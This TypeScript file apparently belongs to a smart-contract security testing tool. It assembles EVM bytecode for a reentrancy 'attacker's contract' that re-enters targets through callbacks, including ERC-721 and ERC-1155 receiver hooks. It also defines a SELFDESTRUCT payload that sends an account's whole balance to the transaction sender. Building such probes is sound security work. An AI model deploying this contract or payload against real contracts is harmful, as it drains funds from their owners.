import { assemble } from './assembler.ts';
import { addressWord, joined, padded, wordBytes } from './words.ts';

const HEAD = 256;

/**
 * The attacker's contract. Called by an account with a command (see `commandFor`) it makes the call in it; called by
 * anyone else it calls back as the command planned, as often as the command allowed, and then answers. It keeps the
 * plan in storage: 0 calls left, 1 target, 2 value, 3 answer, 4 length of the data, 5… the data.
 */
const SOURCE = `
  ${HEAD} CALLDATASIZE LT @callback JUMPI
  ORIGIN CALLER EQ ISZERO @callback JUMPI
  64 CALLDATALOAD 0 SSTORE
  96 CALLDATALOAD 1 SSTORE
  128 CALLDATALOAD 2 SSTORE
  160 CALLDATALOAD 3 SSTORE
  224 CALLDATALOAD 4 SSTORE
  0
  keep:
  DUP1 32 MUL 224 CALLDATALOAD GT ISZERO @kept JUMPI
  DUP1 32 MUL 192 CALLDATALOAD 31 ADD 32 SWAP1 DIV 32 MUL ADD ${HEAD} ADD CALLDATALOAD
  DUP2 5 ADD SSTORE
  1 ADD @keep JUMP
  kept:
  POP
  0 CALLDATALOAD ISZERO @done JUMPI
  192 CALLDATALOAD ${HEAD} 0 CALLDATACOPY
  0 0 192 CALLDATALOAD 0 32 CALLDATALOAD 0 CALLDATALOAD GAS CALL
  RETURNDATASIZE 0 0 RETURNDATACOPY
  @good JUMPI
  RETURNDATASIZE 0 REVERT
  good:
  RETURNDATASIZE 0 RETURN
  done:
  STOP
  callback:
  30000 GAS LT @done JUMPI
  0 SLOAD ISZERO @answer JUMPI
  1 0 SLOAD SUB 0 SSTORE
  0
  load:
  DUP1 32 MUL 4 SLOAD GT ISZERO @loaded JUMPI
  DUP1 5 ADD SLOAD DUP2 32 MUL MSTORE
  1 ADD @load JUMP
  loaded:
  POP
  0 0 4 SLOAD 0 2 SLOAD 1 SLOAD GAS CALL POP
  answer:
  CALLDATASIZE ISZERO @done JUMPI
  0 CALLDATALOAD 224 SHR
  DUP1 0x150b7a02 EQ @echo JUMPI
  DUP1 0xf23a6e61 EQ @echo JUMPI
  DUP1 0xbc197c81 EQ @echo JUMPI
  POP
  3 SLOAD 0 MSTORE
  3 SLOAD 32 MSTORE
  64 0 RETURN
  echo:
  224 SHL 0 MSTORE
  32 0 RETURN
`;

/** Runtime code of the attacker's contract. */
export const ATTACKER_CODE = assemble(SOURCE);

/** What runs when it is called back, or by a delegatecall: everything the account holds goes to who sent the transaction. */
export const PAYLOAD_CODE = assemble('ORIGIN SELFDESTRUCT');

/** What the attacker's contract does when others call it. */
export interface Callback {
  /** How often it calls; each call uses one up. */
  count: number;
  target: string;
  value: bigint;
  data: Uint8Array;
}

/** A call for the attacker's contract to make, or with a null target only a plan for later. */
export interface Command {
  target: string | null;
  value: bigint;
  data: Uint8Array;
  callback: Callback | null;
  /** The word it returns to those who call it. */
  answer: bigint;
}

export function commandFor({ target, value, data, callback, answer }: Command): Uint8Array {
  const head = [
    target === null ? 0n : addressWord(target), value, BigInt(callback?.count ?? 0), callback ? addressWord(callback.target) : 0n,
    callback?.value ?? 0n, answer, BigInt(data.length), BigInt(callback?.data.length ?? 0),
  ];
  return joined([...head.map(wordBytes), padded(data), padded(callback?.data ?? new Uint8Array(0))]);
}
